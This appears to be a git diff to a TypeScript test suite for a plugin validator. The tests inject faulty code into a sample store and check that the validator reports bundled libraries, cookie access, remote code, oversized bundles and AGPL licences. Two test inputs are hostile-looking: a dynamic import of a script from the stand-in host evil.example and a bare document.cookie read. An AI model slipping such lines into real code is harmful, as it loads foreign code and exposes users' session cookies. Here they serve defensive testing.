@@ -174,7 +174,7 @@ describe('check names what a console would refuse', () => {
           'import { makeAutoObservable }',
           "import axios from 'axios';\nimport { makeAutoObservable }",
         )(plugin);
-        edit(store, 'this.quotes = [...', 'void axios.get("/"); this.quotes = [...')(plugin);
+        edit(store, 'this.quotes = [', 'void axios.get("/"); this.quotes = [')(plugin);
       }),
     ).toBe('sharedBundled: axios');
   });
@@ -196,19 +196,15 @@ describe('check names what a console would refuse', () => {
     ).toMatch(/^manifestWrong: key-less\.book:sell/);
   });
   test('forbidden code', async () => {
-    expect(
-      await checked('with-cookie', edit(store, 'this.quotes = [...', 'document.cookie; this.quotes = [...')),
-    ).toMatch(/^forbiddenCode: cookie/);
+    expect(await checked('with-cookie', edit(store, 'this.quotes = [', 'document.cookie; this.quotes = ['))).toMatch(
+      /^forbiddenCode: cookie/,
+    );
   });
   test('code from elsewhere', async () => {
     expect(
       await checked(
         'from-afar',
-        edit(
-          store,
-          'this.quotes = [...',
-          'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = [...',
-        ),
+        edit(store, 'this.quotes = [', 'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = ['),
       ),
     ).toBe('foreignOrigin: https://evil.example/x.js');
   });
@@ -216,11 +212,7 @@ describe('check names what a console would refuse', () => {
     expect(
       await checked(
         'too-fat',
-        edit(
-          store,
-          'this.quotes = [...',
-          `document.title = ${JSON.stringify('x'.repeat(600_000))}; this.quotes = [...`,
-        ),
+        edit(store, 'this.quotes = [', `document.title = ${JSON.stringify('x'.repeat(600_000))}; this.quotes = [`),
       ),
     ).toMatch(/^overBudget: 60\d{4} > 500000$/);
   });
@@ -245,7 +237,7 @@ describe('check names what a console would refuse', () => {
           'import { makeAutoObservable }',
           "import { fence } from 'left-fence';\nimport { makeAutoObservable }",
         )(plugin);
-        edit(store, 'this.quotes = [...', 'document.title = fence("x"); this.quotes = [...')(plugin);
+        edit(store, 'this.quotes = [', 'document.title = fence("x"); this.quotes = [')(plugin);
       }),
     ).toBe('licence: left-fence (AGPL-3.0-only)');
     expect(
@@ -282,7 +274,7 @@ describe('the suite every plugin keeps to', () => {
     createPlugin(plugin, {});
     const change = (file: string, from: string, to: string): void =>
       writeFileSync(join(plugin, file), readFileSync(join(plugin, file), 'utf8').replace(from, to));
-    change('web/pages/quotes.tsx', "text('title')}</Text>", "text('gone')}</Text>");
+    change('web/pages/quotes.tsx', "{text('title')}", "{text('gone')}");
     change(
       'web/index.ts',
       'setup: (context) => context',
